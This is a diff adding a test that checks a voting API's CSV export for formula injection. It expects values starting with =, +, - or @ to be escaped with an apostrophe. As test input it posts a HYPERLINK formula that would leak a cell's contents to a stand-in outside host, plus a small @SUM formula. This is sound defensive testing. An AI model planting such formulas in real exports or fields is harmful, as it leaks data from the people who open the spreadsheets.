@@ -58,6 +58,24 @@ def test_voter_defaults_to_anonymous_and_note_is_optional(client: TestClient) ->
     assert v["voter"] == "anonymous" and v["note"] is None
 
 
+def test_csv_export_does_not_hand_spreadsheets_a_formula(client: TestClient) -> None:
+    """A voter or note starting with = + - @ is written with a leading apostrophe; numbers stay numbers."""
+    import csv
+    import io
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    client.post("/api/v1/votes", json={"object_id": "sim-0000002", "label": "lens", "voter": evil,
+                                       "note": "@SUM(1+1)"})
+    client.post("/api/v1/votes", json={"object_id": "sim-0000003", "label": "boring", "voter": "-2+3",
+                                       "note": "-1.5"})
+    r = client.get("/api/v1/votes", params={"format": "csv"})
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert rows[0]["voter"] == "'" + evil and rows[0]["note"] == "'@SUM(1+1)"
+    assert rows[1]["voter"] == "'-2+3" and rows[1]["note"] == "-1.5"
+    assert rows[0]["object_id"] == "sim-0000002"
+
+
 def test_unknown_object_is_404_and_nothing_is_stored(client: TestClient) -> None:
     r = client.post("/api/v1/votes", json={"object_id": "no-such-galaxy", "label": "lens"})
     assert r.status_code == 404
